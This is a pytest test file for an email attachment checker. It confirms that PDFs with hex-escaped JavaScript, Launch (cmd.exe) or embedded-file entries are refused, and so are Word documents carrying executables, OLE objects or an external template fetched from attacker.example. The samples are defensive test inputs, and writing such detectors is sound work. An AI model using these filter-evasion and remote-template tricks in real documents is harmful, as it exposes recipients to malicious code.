"""Attacker review of attachment checks (ADR 0017): PDF name escapes hid JavaScript from the active-content check,
and a .docx could carry a program or fetch a template from outside. Generated files only."""

from __future__ import annotations

import pytest

from openmash.messaging.filecheck import DOCX, PDF, FileRefused, file_check
from openmash.messaging.tests import pdfbuild
from openmash.messaging.tests.conftest import CONTENT_TYPES_DOCX, DOCUMENT_XML, _zip, pdf_bytes


def _pdf_with(dictionary: bytes) -> bytes:
    """A small PDF with one extra uncompressed object holding ``dictionary``, and its end marker."""
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + dictionary + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


@pytest.mark.parametrize(
    "dictionary",
    [
        b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>",
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /#4Caunch /F (cmd.exe) >>",
        b"/Names << /#45mbeddedFiles 2 0 R >>",
        b"/#41#41 << /O 3 0 R >>",
        b"/OpenAction << /S /JavaScript#20 >>",
    ],
    ids=["escaped-javascript", "plain-javascript", "escaped-launch", "escaped-embedded", "escaped-aa", "escape-space"],
)
def test_pdf_active_content_is_refused_even_when_its_name_is_escaped(dictionary):
    with pytest.raises(FileRefused, match="PDF holds JavaScript"):
        file_check("notes.pdf", _pdf_with(dictionary))


def test_an_ordinary_pdf_is_still_accepted():
    assert file_check("notes.pdf", pdf_bytes()).content_type == PDF
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Lang (en#2DGB) >>"
    assert file_check("notes.pdf", pdfbuild.pdf({1: catalog, 2: pdfbuild.PAGES, 3: pdfbuild.PAGE})).content_type == PDF


RELS_EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
RELS_HYPERLINK = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'hyperlink" Target="https://www.gov.uk/" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "extra, says",
    [
        ({"word/media/evil.exe": b"MZ\x90\x00" + b"\x00" * 60}, "part Word and Excel documents do not have"),
        ({"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}, "program inside it"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "part Word and Excel documents do not have"),
        ({"word/_rels/settings.xml.rels": RELS_EXTERNAL_TEMPLATE}, "external link"),
    ],
    ids=["exe-member", "mz-member", "ole-object", "external-template"],
)
def test_a_word_document_carrying_a_program_or_an_external_template_is_refused(extra, says):
    data = _zip({"[Content_Types].xml": CONTENT_TYPES_DOCX, "word/document.xml": DOCUMENT_XML, **extra})
    with pytest.raises(FileRefused, match=says):
        file_check("report.docx", data)


def test_a_word_document_with_a_hyperlink_and_a_picture_is_still_accepted():
    from openmash.messaging.tests.conftest import png_bytes

    data = _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES_DOCX,
            "word/document.xml": DOCUMENT_XML,
            "word/_rels/document.xml.rels": RELS_HYPERLINK,
            "word/media/image1.png": png_bytes(),
        }
    )
    assert file_check("report.docx", data).content_type == DOCX
